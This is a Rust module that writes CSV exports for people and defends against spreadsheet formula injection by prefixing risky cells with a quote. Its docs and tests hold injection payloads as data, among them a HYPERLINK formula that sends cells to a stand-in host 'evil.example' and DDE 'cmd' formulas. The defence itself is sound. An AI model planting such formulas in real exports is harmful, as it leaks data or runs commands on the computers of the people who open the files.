//! CSV the host writes for people (the console's order list, the rows an import refused): UTF-8
//! with a byte-order mark so Excel reads it as UTF-8, and every cell made inert — a text from a
//! mall or a file that starts like a formula (`=`, `+`, `-`, `@`, a tab or a carriage return)
//! gets a leading `'`, so a spreadsheet shows it as text instead of running it
//! (`=HYPERLINK("http://evil.example/?d="&A1,"詳細")` would send other cells away). A plain
//! number (`-500`) is left a number.
//!
//! ```
//! use mallhost::csv::written::cell;
//! assert_eq!(cell("=cmd|' /C calc'!A0"), "'=cmd|' /C calc'!A0");
//! assert_eq!(cell("-500"), "-500");
//! assert_eq!(cell("山田 太郎"), "山田 太郎");
//! ```

use std::borrow::Cow;

/// Whether `s` is a plain number (a sign, digits, a decimal point): safe as it is.
fn plain_number(s: &str) -> bool {
    let digits = s.strip_prefix(['-', '+']).unwrap_or(s);
    !digits.is_empty()
        && digits.chars().all(|c| c.is_ascii_digit() || c == '.')
        && digits.chars().filter(|c| *c == '.').count() <= 1
        && digits.chars().any(|c| c.is_ascii_digit())
}

/// A cell's text as the host writes it: one that a spreadsheet would read as a formula gets a
/// leading `'`.
pub fn cell(s: &str) -> Cow<'_, str> {
    let risky = s.starts_with([
        '=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
    ]);
    if risky && !plain_number(s) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// CSV for people: a BOM, the header, then the rows, each cell through [`cell`]; `None` if a
/// record cannot be written.
pub fn for_people<R, F>(header: &[&str], rows: R) -> Option<Vec<u8>>
where
    R: IntoIterator<Item = Vec<F>>,
    F: AsRef<str>,
{
    let mut w = ::csv::Writer::from_writer(Vec::from("\u{feff}".as_bytes()));
    w.write_record(header).ok()?;
    for row in rows {
        w.write_record(row.iter().map(|c| cell(c.as_ref()).into_owned()))
            .ok()?;
    }
    w.into_inner().ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_formula_start_is_made_text() {
        for risky in [
            "=HYPERLINK(\"http://evil.example/?d=\"&A1&B1,\"詳細\")",
            "+1+1",
            "-1+cmd|' /C calc'!A0",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "＝1+1",
        ] {
            assert_eq!(cell(risky), format!("'{risky}"), "{risky:?}");
        }
        for plain in ["-500", "+81", "12.5", "A-1", "山田", "", "-"] {
            let expected = if plain == "-" { "'-" } else { plain };
            assert_eq!(cell(plain), expected, "{plain:?}");
        }
    }

    #[test]
    fn a_written_file_holds_no_live_formula() {
        let bytes = for_people(
            &["order", "buyer"],
            [
                vec!["=HYPERLINK(\"x\")", "=cmd|' /C calc'!A0"],
                vec!["A-1", "山田"],
            ],
        )
        .unwrap();
        let text = String::from_utf8(bytes).unwrap();
        assert!(text.starts_with('\u{feff}'));
        let mut r = ::csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        for row in r.records() {
            for c in row.unwrap().iter() {
                assert!(!c.starts_with('='), "{c}");
            }
        }
    }
}
